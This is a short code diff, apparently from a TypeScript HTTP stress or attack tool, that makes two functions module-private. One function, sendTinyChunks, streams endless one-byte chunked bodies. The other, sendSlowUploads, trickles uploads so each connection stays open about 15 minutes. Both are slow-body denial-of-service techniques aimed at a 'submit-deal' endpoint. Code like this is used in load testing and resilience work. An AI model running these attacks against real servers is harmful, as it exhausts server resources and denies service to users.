@@ -94,7 +94,7 @@ interface ChunkOptions extends AttackOptions {
 }
 
 /** Endless bodies in tiny chunks: each byte costs the server an event and an object. */
-export function sendTinyChunks(options: ChunkOptions): Attack {
+function sendTinyChunks(options: ChunkOptions): Attack {
   const { path = 'submit-deal', size = 1, extension = '', isForm } = options;
   const type = isForm ? 'multipart/form-data; boundary=b' : 'application/json';
   const head = headOf(path, { 'Content-Type': type, 'Transfer-Encoding': 'chunked' });
@@ -119,7 +119,7 @@ const announced = 30 * 1024 * 1024;
 const interval = 100;
 
 /** Sends bodies just fast enough that the server doesn't close them; each takes 15 minutes. */
-export function sendSlowUploads(options: SlowOptions): Attack {
+function sendSlowUploads(options: SlowOptions): Attack {
   const { path = 'submit-deal', rate = 35_000 } = options;
   const head = headOf(path, { 'Content-Length': announced });
   const piece = Buffer.alloc((rate * interval) / 1000, 'x');
